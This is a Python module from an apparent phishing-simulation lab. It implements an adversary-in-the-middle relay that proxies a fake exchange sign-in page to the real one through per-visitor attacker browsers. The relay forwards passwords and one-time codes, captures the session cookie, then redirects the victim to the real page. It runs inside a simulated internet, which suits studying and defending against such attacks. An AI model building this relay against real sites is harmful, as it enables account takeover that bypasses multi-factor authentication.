"""A relay: a look-alike that asks nothing by itself and knows nothing by itself. It passes on.

Whoever opens it is given a browser of the attacker's, at the real exchange. What the visitor types goes into that
browser at once, and what the exchange answers is what the visitor sees next. So every page is right, every code is
fresh, and every question of the exchange is answered by the one person who can answer it. In the end the session lies
in the attacker's browser, and the visitor is sent to the real page to begin again.

Both legs are ordinary requests through this world's internet. The relay keeps the browsers, for the session in one of
them is what it was built for; of what was typed it keeps a count.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable, Iterable
from http import HTTPStatus
from typing import TYPE_CHECKING
from urllib.parse import quote, urlsplit

from werkzeug.exceptions import RequestEntityTooLarge
from werkzeug.utils import redirect
from werkzeug.wrappers import Request, Response

from loginlab.sites import WWW, Cookie
from loginlab.sites.headers import NO_STORE
from loginlab.sites.lookalike import LOOKALIKE
from loginlab.sites.request_input import LARGEST_BODY
from loginlab.sites.stylesheet import PATH as STYLESHEET
from loginlab.sites.stylesheet import read_stylesheet
from loginlab.world.browser import AGENT, Browser
from loginlab.world.clock import Clock
from loginlab.world.exits import RENTED, Exit, Line
from loginlab.world.internet import Internet
from loginlab.world.page import Page

if TYPE_CHECKING:
    from _typeshed.wsgi import StartResponse, WSGIApplication, WSGIEnvironment

VISIT = "__Host-visit"
"""The cookie by which the relay tells its visitors apart: each has an attacker's browser of their own."""
WATCHED = ("identifier", "password", "code")
"""The fields that are worth counting."""


def at_once() -> None:
    """Pass on without waiting."""


class Relay:
    """The relay as a WSGI application.

    ``passed_on`` counts what went through it, by the name of the field.

    Args:
        internet: what the attacker's browsers go online by.
        clock: the world's.
        host: the name it answers under.
        way: the exit that was rented for it; the exchange sees this one and never the visitor's.
        pause: called before anything typed is passed on; a race lets the relay's own seconds pass here.
    """

    def __init__(
        self,
        internet: Internet,
        clock: Clock,
        *,
        host: str = LOOKALIKE,
        way: Exit = RENTED,
        pause: Callable[[], None] = at_once,
    ) -> None:
        self.passed_on: Counter[str] = Counter()
        self.host = host
        self._internet, self._clock, self._line, self._pause = internet, clock, Line(way), pause
        self._windows: dict[str, Browser] = {}
        self._unseen: set[str] = set()
        """Visits whose newest page has come from the exchange and has not been shown yet."""

    def __call__(self, environ: WSGIEnvironment, start_response: StartResponse) -> Iterable[bytes]:
        """Answer one request."""
        request = Request(environ)
        request.max_content_length = LARGEST_BODY
        try:
            answer: WSGIApplication = self._answer(request)
        except RequestEntityTooLarge as refusal:
            answer = refusal
        return answer(environ, start_response)

    @property
    def windows(self) -> tuple[Browser, ...]:
        """The attacker's browsers, one for each visitor, the first one first."""
        return tuple(self._windows.values())

    def _answer(self, request: Request) -> Response:
        if request.path == STYLESHEET:
            # A copy, made once: the words come from the exchange each time, the colours do not change.
            return Response(read_stylesheet(), mimetype="text/css")
        visit = request.cookies.get(VISIT, "")
        if visit not in self._windows:
            visit = self._begin(request)
        window = self._windows[visit]
        if request.method == "POST":
            answer = self._pass_on(window, visit, request)
        else:
            answer = self._fetch(window, visit, request)
        answer.headers["Cache-Control"] = NO_STORE
        answer.set_cookie(VISIT, visit, path="/", secure=True, httponly=True, samesite="Lax")
        return answer

    def _begin(self, request: Request) -> str:
        """Open a browser for a new visitor. It calls itself what the visitor's does: that is what the owner will read.

        The number is foreseeable, which harms nobody but the relay.
        """
        visit = f"{len(self._windows) + 1}"
        agent = request.headers.get("User-Agent") or AGENT
        self._windows[visit] = Browser(self._internet, self._clock, agent, self._line)
        return visit

    def _fetch(self, window: Browser, visit: str, request: Request) -> Response:
        wanted = quote(request.path)
        if visit in self._unseen and window.page.path == wanted:
            self._unseen.discard(visit)
        else:
            query = f"?{request.query_string.decode('latin-1')}" if request.query_string else ""
            window.open(f"https://{WWW}{wanted}{query}")
        if has_session(window):
            return self._send_away()
        if window.page.host == WWW and window.page.path != wanted:
            self._unseen.add(visit)
            return redirect(window.page.path, HTTPStatus.SEE_OTHER)
        return self._show(window.page)

    def _pass_on(self, window: Browser, visit: str, request: Request) -> Response:
        form = _form_that_sends_to(window.page, request.path)
        if form is None:
            return redirect("/sign-in", HTTPStatus.SEE_OTHER)
        known = {field.name for field in (*window.page.forms[form].fields, *window.page.forms[form].buttons)}
        typed = {name: value for name, value in request.form.items() if name in known}
        self.passed_on.update(name for name in WATCHED if typed.get(name, "").strip())
        self._pause()
        window.submit(form, typed)
        if has_session(window):
            return self._send_away()
        self._unseen.add(visit)
        return redirect(window.page.path if window.page.host == WWW else "/sign-in", HTTPStatus.SEE_OTHER)

    def _send_away(self) -> Response:
        """To the real page, where nobody is signed in: it looks as if the first time had not worked."""
        return redirect(f"https://{WWW}/sign-in", HTTPStatus.SEE_OTHER)

    def _show(self, page: Page) -> Response:
        """The exchange's own page under this name; even its sentence about the address now names this one."""
        status = page.status or HTTPStatus.BAD_GATEWAY
        return Response(page.html.replace(WWW, self.host), status, mimetype="text/html")


def has_session(window: Browser) -> bool:
    """Whether an attacker's browser holds a session of the exchange: what all this is for."""
    return any(cookie.name == Cookie.SESSION.title for cookie in window.cookies)


def _form_that_sends_to(page: Page, path: str) -> int | None:
    """The place of the form on the attacker's page that the visitor has just filled in on the copy."""
    return next((place for place, form in enumerate(page.forms) if urlsplit(form.action).path == path), None)
